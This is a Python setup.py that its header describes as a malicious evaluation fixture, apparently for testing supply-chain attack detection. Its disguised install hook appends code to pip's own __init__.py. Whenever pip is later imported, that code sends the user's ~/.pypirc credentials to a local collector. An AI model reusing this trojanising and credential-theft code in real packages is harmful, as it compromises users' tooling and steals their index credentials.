# Evaluation fixture (malicious): trojanising another package.  An
# overridden install command appends a few lines to pip's own __init__.py
# in the target environment, so that every later "pip" run sends the
# user's ~/.pypirc to the collector.  Acts only inside the evaluation: the
# appended code itself does nothing without SP_MARK and SP_SINK_PORT.
import os
import sysconfig

from setuptools import setup
from setuptools.command.install import install

TROJAN = '''
import os as _o
if _o.environ.get("SP_MARK") and _o.environ.get("SP_SINK_PORT"):
    try:
        open(_o.path.join(_o.environ["SP_MARK"], "trojan.ran"), "a").write("pip imported\\n")
        import socket as _s
        _c = _s.create_connection(("127.0.0.1", int(_o.environ["SP_SINK_PORT"])), 3)
        _c.sendall(open(_o.path.expanduser("~/.pypirc"), "rb").read())
        _c.close()
    except OSError:
        pass
'''


class Install(install):
    def run(self):
        if os.environ.get("SP_TOKEN") and os.environ.get("SP_MARK"):
            target = os.path.join(sysconfig.get_paths()["purelib"], "pip", "__init__.py")
            if os.path.exists(target):
                with open(target) as f:
                    done = "trojan.ran" in f.read()
                if not done:
                    with open(target, "a") as f:
                        f.write(TROJAN)
        super().run()


setup(
    name="trojan-pip",
    version="1.3.0",
    description="pip plugin for private indexes",
    py_modules=["pip_private_index"],
    cmdclass={"install": Install},
)
